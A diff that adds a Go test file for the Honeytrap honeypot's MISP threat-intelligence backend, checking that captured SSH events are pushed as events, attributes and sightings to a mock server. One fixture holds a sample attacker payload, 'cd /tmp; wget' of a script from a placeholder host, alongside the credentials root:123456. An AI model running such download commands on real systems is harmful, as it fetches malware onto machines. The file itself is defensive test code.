@@ -0,0 +1,200 @@
+// Copyright 2016-2019 DutchSec (https://dutchsec.com/)
+//
+// Licensed under the Apache License, Version 2.0 (the "License");
+// you may not use this file except in compliance with the License.
+// You may obtain a copy of the License at
+//
+// http://www.apache.org/licenses/LICENSE-2.0
+//
+// Unless required by applicable law or agreed to in writing, software
+// distributed under the License is distributed on an "AS IS" BASIS,
+// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+// See the License for the specific language governing permissions and
+// limitations under the License.
+package misp
+
+import (
+	"encoding/json"
+	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/honeytrap/honeytrap/event"
+)
+
+type server struct {
+	m sync.Mutex
+
+	events     map[string]string
+	attributes map[string]bool
+	sightings  []string
+}
+
+func (s *server) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	if r.Header.Get("Authorization") != "secret" {
+		w.WriteHeader(http.StatusForbidden)
+		return
+	}
+
+	body := map[string]interface{}{}
+	json.NewDecoder(r.Body).Decode(&body)
+
+	s.m.Lock()
+	defer s.m.Unlock()
+
+	switch {
+	case r.URL.Path == "/events/restSearch":
+		if id, ok := s.events[body["eventinfo"].(string)]; ok {
+			fmt.Fprintf(w, `{"response": [{"Event": {"id": "%s"}}]}`, id)
+		} else {
+			fmt.Fprint(w, `{"response": []}`)
+		}
+	case r.URL.Path == "/events/add":
+		e := body["Event"].(map[string]interface{})
+
+		id := fmt.Sprint(len(s.events) + 1)
+		s.events[e["info"].(string)] = id
+
+		fmt.Fprintf(w, `{"Event": {"id": "%s"}}`, id)
+	case strings.HasPrefix(r.URL.Path, "/attributes/add/"):
+		key := strings.TrimPrefix(r.URL.Path, "/attributes/add/") + "/" + body["value"].(string)
+		if s.attributes[key] {
+			w.WriteHeader(http.StatusForbidden)
+			fmt.Fprint(w, `{"errors": {"value": ["A similar attribute already exists for this event."]}}`)
+			return
+		}
+
+		s.attributes[key] = true
+		fmt.Fprint(w, `{"Attribute": {}}`)
+	case r.URL.Path == "/sightings/add":
+		s.sightings = append(s.sightings, body["value"].(string))
+		fmt.Fprint(w, `{"Sighting": {}}`)
+	default:
+		w.WriteHeader(http.StatusNotFound)
+	}
+}
+
+func newBackend(url string) *Backend {
+	return &Backend{
+		Config: Config{
+			URL:         url,
+			Key:         "secret",
+			Info:        "Honeytrap sightings {date}",
+			Credentials: true,
+			Sightings:   true,
+		},
+		client:     http.DefaultClient,
+		attributes: map[attribute]struct{}{},
+		sightings:  map[attribute]struct{}{},
+		pushed:     map[attribute]struct{}{},
+	}
+}
+
+func sshEvent() event.Event {
+	return event.New(
+		event.Category("ssh"),
+		event.SourceAddr(&net.TCPAddr{IP: net.ParseIP("192.0.2.1"), Port: 1234}),
+		event.Custom("ssh.username", "root"),
+		event.Custom("ssh.password", "123456"),
+		event.Payload([]byte("cd /tmp; wget http://198.51.100.1/bins.sh")),
+	)
+}
+
+func TestPush(t *testing.T) {
+	s := &server{
+		events:     map[string]string{},
+		attributes: map[string]bool{},
+	}
+
+	ts := httptest.NewServer(s)
+	defer ts.Close()
+
+	b := newBackend(ts.URL)
+
+	now := time.Date(2019, 6, 1, 12, 0, 0, 0, time.UTC)
+
+	b.Send(sshEvent())
+	b.Send(sshEvent())
+	b.push(now)
+
+	if id := s.events["Honeytrap sightings 2019-06-01"]; id != "1" {
+		t.Fatalf("Expected event to be created, got %v", s.events)
+	}
+
+	for _, v := range []string{"1/192.0.2.1", "1/root:123456"} {
+		if !s.attributes[v] {
+			t.Errorf("Expected attribute %s, got %v", v, s.attributes)
+		}
+	}
+
+	if len(s.attributes) != 3 {
+		t.Errorf("Expected 3 attributes, got %d", len(s.attributes))
+	}
+
+	// attributes seen again are sightings
+	b.Send(sshEvent())
+	b.push(now)
+
+	if len(s.attributes) != 3 || len(s.sightings) != 3 {
+		t.Errorf("Expected 3 sightings, got %v", s.sightings)
+	}
+
+	// the next day the attributes are added to a new event
+	b.Send(sshEvent())
+	b.push(now.Add(24 * time.Hour))
+
+	if len(s.events) != 2 || len(s.attributes) != 6 {
+		t.Errorf("Expected a new event, got %v", s.events)
+	}
+}
+
+func TestDuplicate(t *testing.T) {
+	s := &server{
+		events:     map[string]string{"Honeytrap sightings 2019-06-01": "7"},
+		attributes: map[string]bool{"7/192.0.2.1": true},
+	}
+
+	ts := httptest.NewServer(s)
+	defer ts.Close()
+
+	b := newBackend(ts.URL)
+	b.Credentials = false
+
+	now := time.Date(2019, 6, 1, 12, 0, 0, 0, time.UTC)
+
+	b.Send(sshEvent())
+	b.push(now)
+
+	// the existing event is reused, and existing attributes are not
+	// retried
+	if len(s.events) != 1 || len(s.attributes) != 2 || len(b.attributes) != 0 {
+		t.Errorf("Unexpected push: %v %v", s.events, s.attributes)
+	}
+}
+
+func TestPushFailed(t *testing.T) {
+	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.WriteHeader(http.StatusInternalServerError)
+	}))
+	defer ts.Close()
+
+	b := newBackend(ts.URL)
+
+	b.Send(sshEvent())
+	b.push(time.Now())
+
+	if len(b.attributes) != 3 {
+		t.Errorf("Expected failed attributes to be kept, got %d", len(b.attributes))
+	}
+}
+
+func TestNewWithoutKey(t *testing.T) {
+	if _, err := New(); err == nil {
+		t.Errorf("Expected error without url and key")
+	}
+}